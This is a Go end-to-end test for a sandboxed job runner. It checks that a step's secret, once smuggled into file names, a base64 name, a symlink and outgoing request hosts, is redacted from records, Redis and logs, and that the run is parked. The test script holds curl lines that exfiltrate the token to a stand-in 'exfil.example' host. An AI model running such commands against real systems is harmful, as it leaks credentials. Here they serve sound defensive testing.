//go:build linux

package e2e

import (
	"encoding/base64"
	"fmt"
	"os/exec"
	"strings"
	"testing"

	"github.com/airlock-run/airlock/record"
)

// TestTrustSecretInNames: a step that holds a secret in its environment
// puts it in file names (an artifact, a refused symlink, a file left in
// out/, an artifact named by its base64) and in the host of a CONNECT. No
// spelling of the secret is stored anywhere in Redis (record, approval,
// staged artifacts, events) nor in the worker's log; the run is parked
// with a reason naming the artifact as it was staged, under its redacted
// name.
func TestTrustSecretInNames(t *testing.T) {
	t.Parallel()
	needRoot(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("needs curl in the steps' view")
	}
	// Mixed case: the proxy records host names lower-cased.
	secret := "Tok-" + strings.ToUpper(randHex(t, 6)) + randHex(t, 10)
	b := newBundle(t)
	store := t.TempDir()
	// The policy would promote the run, and grants the secret to the
	// test's queue and its steps' environment.
	pol := writePolicy(t, fmt.Sprintf(`{"default": "promote",
		"secrets": {"PARTNER_TOKEN": {"queues": [%q], "env": true}}}`, b.queue))
	b.worker = b.startWorker("-secrets-dir", secretsDir(t, "PARTNER_TOKEN", secret), "-policy", pol, "-store", store,
		"-allow-network", "-egress-allow", "127.0.0.1")
	script := strings.Join([]string{
		`printf '{"ok": true}' > out/result.json`,
		`echo data > "out/report-$TOK.txt"`,
		`echo data > "out/b64-$(printf %s "$TOK" | base64 -w0 | tr '+/' '-_' | tr -d '=')"`,
		`ln -s /etc/hostname "out/link-$TOK.txt"`,
		`mkdir -p out/keep && echo x > "out/keep/$TOK"`,
		`curl -sS -p -o /dev/null -w 'connect=%{http_connect}\n' "https://$TOK.exfil.example/" 2>/dev/null || true`,
		`curl -sS -o /dev/null -w 'http=%{http_code}\n' "http://x-$TOK.exfil.example/" 2>/dev/null || true`,
	}, "\n")
	rec := b.run(fmt.Sprintf(`{"version": 1, "network": true, "secrets": ["PARTNER_TOKEN"],
		"files": {"gen.sh": %q},
		"steps": [{"run": ["bash", "gen.sh"], "env": {"TOK": "${secret:PARTNER_TOKEN}"}}],
		"output": {"result": "out/result.json", "artifacts": ["out/*"]}}`, script))
	if rec.State != record.StateParked || rec.Decision == nil {
		t.Fatalf("want parked:\n%s", mustJSON(t, rec))
	}
	reasons := strings.Join(rec.Decision.Reasons, "\n")
	if !strings.Contains(reasons, "PARTNER_TOKEN") || !strings.Contains(reasons, "the name of out/report-[REDACTED].txt") ||
		!strings.Contains(reasons, "the name of out/b64-[REDACTED]") {
		t.Errorf("the decision's reasons do not name the files as staged:\n%s", mustJSON(t, rec.Decision))
	}
	names := map[string]bool{}
	for _, a := range rec.Artifacts {
		names[a.Name] = true
	}
	if !names["out/report-[REDACTED].txt"] || !names["out/b64-[REDACTED]"] || !names["out/result.json"] {
		t.Errorf("artifacts: %s", mustJSON(t, rec.Artifacts))
	}
	if len(rec.Refused) != 1 || rec.Refused[0].Path != "out/link-[REDACTED].txt" {
		t.Errorf("refused: %s", mustJSON(t, rec.Refused))
	}
	listed := false
	for _, f := range rec.Files {
		listed = listed || f.Path == "out/keep/[REDACTED]"
	}
	if !listed {
		t.Errorf("files: %s", mustJSON(t, rec.Files))
	}
	hosts := 0
	for _, e := range rec.Egress {
		if strings.HasSuffix(e.Host, ".exfil.example") {
			hosts++
			if e.Allowed || !strings.Contains(e.Host, "[REDACTED]") {
				t.Errorf("egress entry: %+v", e)
			}
		}
	}
	if hosts != 2 {
		t.Errorf("want the CONNECT and the HTTP request in the record's egress:\n%s", mustJSON(t, rec.Egress))
	}

	forms := append(secretForms(secret), strings.ToLower(secret),
		base64.RawURLEncoding.EncodeToString([]byte(secret)), base64.RawStdEncoding.EncodeToString([]byte(secret)))
	js := strings.ToLower(mustJSON(t, rec))
	logs := b.worker.logs.String()
	for _, f := range forms {
		if strings.Contains(js, strings.ToLower(f)) {
			t.Errorf("the record holds %q:\n%s", f, js)
		}
		if strings.Contains(logs, f) {
			t.Errorf("the worker's log holds %q", f)
		}
	}
	if hits := redisHolds(t, forms); len(hits) > 0 {
		t.Errorf("Redis keys hold the secret: %v", hits)
	}
	// The staged approval holds the artifact under its redacted name.
	if hits := redisHolds(t, []string{"out/report-[REDACTED].txt"}); len(hits) == 0 {
		t.Error("no Redis key holds the artifact's redacted name: was it staged?")
	}
}
